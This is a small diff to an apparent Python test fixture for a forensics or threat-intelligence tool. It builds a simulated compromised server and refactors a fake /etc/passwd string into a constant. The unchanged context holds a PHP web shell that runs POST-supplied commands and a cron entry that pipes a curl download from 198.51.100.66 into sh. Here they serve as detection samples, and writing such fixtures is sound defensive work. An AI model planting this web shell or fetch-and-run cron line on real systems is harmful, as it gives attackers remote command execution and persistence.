@@ -13,6 +13,7 @@ from pratique.case.sharing import TLP, Wish, shared
 from pratique.report.export import stix
 from pratique.story.indicator.indicator import Kind
 
+PASSWD = "root:x:0:0::/root:/bin/sh\nmariarossi:x:1000:1000::/home/mariarossi:/bin/sh\n"
 SHELL = "<?php if (isset($_POST['c'])) { system($_POST['c']); } ?>"
 CRON = "* * * * * root curl -fsS http://198.51.100.66/k | sh\n"
 
@@ -31,7 +32,7 @@ def case(tmp_path_factory):
     for path, text in {
         "var/www/html/x.php": SHELL,
         "etc/cron.d/x": CRON,
-        "etc/passwd": "root:x:0:0::/root:/bin/sh\nmariarossi:x:1000:1000::/home/mariarossi:/bin/sh\n",
+        "etc/passwd": PASSWD,
         "etc/hostname": "rossibakery\n",
         "home/mariarossi/public_html/y.php": SHELL + " ",
     }.items():
